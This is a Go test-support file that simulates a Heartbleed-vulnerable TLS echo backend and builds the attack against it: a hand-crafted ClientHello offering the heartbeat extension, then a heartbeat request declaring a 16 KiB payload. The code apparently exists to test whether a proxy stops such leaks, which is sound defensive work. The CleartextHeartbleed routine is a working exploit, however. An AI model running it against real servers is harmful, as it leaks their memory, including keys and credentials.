package tlspeer

import (
	"bytes"
	"crypto/rand"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/crypto/cryptobyte"
)

// Backend is a TLS echo server that acts like a Heartbleed-vulnerable
// OpenSSL: every heartbeat request it receives is answered with a response
// that carries far more than was asked for. During the handshake the
// response is cleartext (payload_length as requested, filled with
// "leaked" bytes); once the handshake is over it is a record of LeakSize
// random bytes, as an encrypted response looks on the wire.
type Backend struct {
	Config   *tls.Config
	LeakSize int

	ln net.Listener
	wg sync.WaitGroup

	// Received counts the raw bytes read from all clients.
	Received atomic.Int64
	// Heartbeats counts the heartbeat records that reached the backend.
	Heartbeats atomic.Int64
	// Echoed counts the application bytes echoed back.
	Echoed atomic.Int64
}

// Leaked is what the vulnerable backend puts in its heartbeat responses:
// recognisable, so a test can tell leaked memory from anything else.
var Leaked = []byte("-----BEGIN RSA PRIVATE KEY----- secret:hunter2 ")

// Start listens on 127.0.0.1:0 and serves until Close.
func (b *Backend) Start() error {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	b.StartOn(ln)
	return nil
}

// StartOn serves on ln until Close, which closes ln. It is Start for a
// listener made elsewhere: on another address, or in another network
// namespace.
func (b *Backend) StartOn(ln net.Listener) {
	b.ln = ln
	b.wg.Add(1)
	go func() {
		defer b.wg.Done()
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			b.wg.Add(1)
			go func() {
				defer b.wg.Done()
				b.serve(c)
			}()
		}
	}()
}

// Addr is the backend's address.
func (b *Backend) Addr() string { return b.ln.Addr().String() }

// Close stops the listener and waits for the connections to end.
func (b *Backend) Close() error {
	err := b.ln.Close()
	b.wg.Wait()
	return err
}

func (b *Backend) serve(c net.Conn) {
	defer c.Close()
	var done atomic.Bool
	rc := &RecordConn{Conn: &countingConn{Conn: c, n: &b.Received}}
	rc.OnHeartbeat = func(rec []byte) {
		b.Heartbeats.Add(1)
		if len(rec) < 5+3 || !done.Load() && rec[5] != 1 {
			return
		}
		if !done.Load() {
			// Cleartext: answer with as much "memory" as was asked for.
			n := int(rec[6])<<8 | int(rec[7])
			resp := []byte{2, byte(n >> 8), byte(n)}
			for len(resp) < 3+n {
				resp = append(resp, Leaked...)
			}
			resp = append(resp[:3+n], make([]byte, 16)...)
			for len(resp) > maxRecord {
				resp = resp[:maxRecord]
			}
			rc.WriteRecord(TypeHeartbeat, 0x0303, resp)
			return
		}
		leak := make([]byte, b.LeakSize)
		rand.Read(leak)
		rc.WriteRecord(TypeHeartbeat, 0x0303, leak)
	}
	tc := tls.Server(rc, b.Config)
	if err := tc.Handshake(); err != nil {
		return
	}
	done.Store(true)
	buf := make([]byte, 16<<10)
	for {
		n, err := tc.Read(buf)
		if n > 0 {
			if _, werr := tc.Write(buf[:n]); werr != nil {
				return
			}
			b.Echoed.Add(int64(n))
		}
		if err != nil {
			tc.CloseWrite()
			return
		}
	}
}

type countingConn struct {
	net.Conn
	n *atomic.Int64
}

func (c *countingConn) Read(p []byte) (int, error) {
	n, err := c.Conn.Read(p)
	c.n.Add(int64(n))
	return n, err
}

// Outcome is what an attacker observed.
type Outcome struct {
	// Leaked counts the bytes of heartbeat records that came back.
	Leaked int
	// Closed reports that the connection was closed on the attacker
	// (EOF or reset) before it gave up waiting.
	Closed bool
	// Reset reports that the close was a TCP reset.
	Reset bool
	Err   error
}

// CleartextHeartbleed runs the classic attack on conn: a TLS 1.2
// ClientHello offering the heartbeat extension, then, once the server's
// flight is complete (ServerHelloDone), a 3-byte heartbeat request that
// declares a 16 KiB payload, in place of the ClientKeyExchange. It waits up
// to wait for the server's answer.
func CleartextHeartbleed(conn net.Conn, wait time.Duration) Outcome {
	conn.SetDeadline(time.Now().Add(wait))
	if _, err := conn.Write(ClientHello12("", true)); err != nil {
		return closedOutcome(err)
	}
	rr := &recordReader{r: conn}
	for {
		rec, err := rr.next()
		if err != nil {
			return closedOutcome(err)
		}
		// ServerHelloDone (type 14) ends the server's flight.
		if rec[0] == TypeHandshake && bytes.Contains(rec[5:], []byte{14, 0, 0, 0}) {
			break
		}
	}
	if _, err := conn.Write(AppendRecord(nil, TypeHeartbeat, 0x0303, []byte{1, 0x40, 0x00})); err != nil {
		return closedOutcome(err)
	}
	var o Outcome
	for {
		rec, err := rr.next()
		if err != nil {
			c := closedOutcome(err)
			c.Leaked = o.Leaked
			return c
		}
		if rec[0] == TypeHeartbeat {
			// The leak is in: no need to wait for more.
			o.Leaked += len(rec)
			return o
		}
	}
}

// EncryptedHeartbleed completes a real TLS 1.2 handshake on conn, exchanges
// one message with the echo backend, then sends an encrypted-looking
// heartbeat record of reqLen bytes and waits up to wait for what comes back.
func EncryptedHeartbleed(conn net.Conn, cfg *tls.Config, reqLen int, wait time.Duration) Outcome {
	var o Outcome
	var leaked atomic.Int64 // written by the reading goroutine's callback
	rc := &RecordConn{Conn: conn, OnHeartbeat: func(rec []byte) {
		// The leak is in: wake the reader up rather than wait for more.
		leaked.Add(int64(len(rec)))
		conn.SetReadDeadline(time.Now())
	}}
	cfg = cfg.Clone()
	cfg.MaxVersion = tls.VersionTLS12
	tc := tls.Client(rc, cfg)
	conn.SetDeadline(time.Now().Add(wait))
	if err := tc.Handshake(); err != nil {
		return closedOutcome(err)
	}
	msg := []byte("hello through the proxy")
	if _, err := tc.Write(msg); err != nil {
		return closedOutcome(err)
	}
	if _, err := io.ReadFull(tc, make([]byte, len(msg))); err != nil {
		return closedOutcome(err)
	}
	req := make([]byte, reqLen)
	rand.Read(req)
	if err := rc.WriteRecord(TypeHeartbeat, 0x0303, req); err != nil {
		return closedOutcome(err)
	}
	_, err := tc.Read(make([]byte, 1))
	o = closedOutcome(err)
	if leaked.Load() > 0 {
		o = Outcome{}
	}
	o.Leaked = int(leaked.Load())
	return o
}

func closedOutcome(err error) Outcome {
	o := Outcome{Err: err}
	var ne net.Error
	switch {
	case errors.Is(err, io.EOF), errors.Is(err, io.ErrUnexpectedEOF):
		o.Closed = true
	case isReset(err):
		o.Closed, o.Reset = true, true
	case errors.As(err, &ne) && ne.Timeout():
	default:
		// A TLS alert or another error: the connection is over too.
		o.Closed = err != nil
	}
	return o
}

type recordReader struct {
	r   io.Reader
	buf []byte
}

func (rr *recordReader) next() ([]byte, error) {
	for {
		if len(rr.buf) >= 5 {
			n := int(rr.buf[3])<<8 | int(rr.buf[4])
			if n > maxRecord {
				return nil, fmt.Errorf("tlspeer: record of %d bytes", n)
			}
			if len(rr.buf) >= 5+n {
				rec := rr.buf[: 5+n : 5+n]
				rr.buf = rr.buf[5+n:]
				return rec, nil
			}
		}
		var b [4096]byte
		n, err := rr.r.Read(b[:])
		rr.buf = append(rr.buf, b[:n]...)
		if err != nil {
			return nil, err
		}
	}
}

// ClientHello12 returns a TLS 1.2 ClientHello record that a crypto/tls
// server accepts (ECDHE with AES-GCM, x25519 and P-256), offering the
// heartbeat extension (peer_allowed_to_send) when heartbeat is set.
func ClientHello12(sni string, heartbeat bool) []byte {
	random := make([]byte, 32)
	rand.Read(random)
	var b cryptobyte.Builder
	b.AddUint8(1) // client_hello
	b.AddUint24LengthPrefixed(func(b *cryptobyte.Builder) {
		b.AddUint16(0x0303)
		b.AddBytes(random)
		b.AddUint8(0) // no session id
		b.AddUint16LengthPrefixed(func(b *cryptobyte.Builder) {
			for _, cs := range []uint16{0xc02b, 0xc02f, 0xc02c, 0xc030} {
				b.AddUint16(cs)
			}
		})
		b.AddUint8LengthPrefixed(func(b *cryptobyte.Builder) { b.AddUint8(0) })
		b.AddUint16LengthPrefixed(func(b *cryptobyte.Builder) {
			if sni != "" {
				b.AddUint16(0) // server_name
				b.AddUint16LengthPrefixed(func(b *cryptobyte.Builder) {
					b.AddUint16LengthPrefixed(func(b *cryptobyte.Builder) {
						b.AddUint8(0)
						b.AddUint16LengthPrefixed(func(b *cryptobyte.Builder) { b.AddBytes([]byte(sni)) })
					})
				})
			}
			b.AddUint16(10) // supported_groups
			b.AddUint16LengthPrefixed(func(b *cryptobyte.Builder) {
				b.AddUint16LengthPrefixed(func(b *cryptobyte.Builder) { b.AddUint16(29); b.AddUint16(23) })
			})
			b.AddUint16(11) // ec_point_formats
			b.AddUint16LengthPrefixed(func(b *cryptobyte.Builder) {
				b.AddUint8LengthPrefixed(func(b *cryptobyte.Builder) { b.AddUint8(0) })
			})
			b.AddUint16(13) // signature_algorithms
			b.AddUint16LengthPrefixed(func(b *cryptobyte.Builder) {
				b.AddUint16LengthPrefixed(func(b *cryptobyte.Builder) {
					for _, s := range []uint16{0x0403, 0x0804, 0x0401} {
						b.AddUint16(s)
					}
				})
			})
			b.AddUint16(23) // extended_master_secret
			b.AddUint16(0)
			b.AddUint16(0xff01) // renegotiation_info
			b.AddUint16LengthPrefixed(func(b *cryptobyte.Builder) { b.AddUint8(0) })
			if heartbeat {
				b.AddUint16(15) // heartbeat
				b.AddUint16LengthPrefixed(func(b *cryptobyte.Builder) { b.AddUint8(1) })
			}
		})
	})
	return AppendRecord(nil, TypeHandshake, 0x0301, b.BytesOrPanic())
}
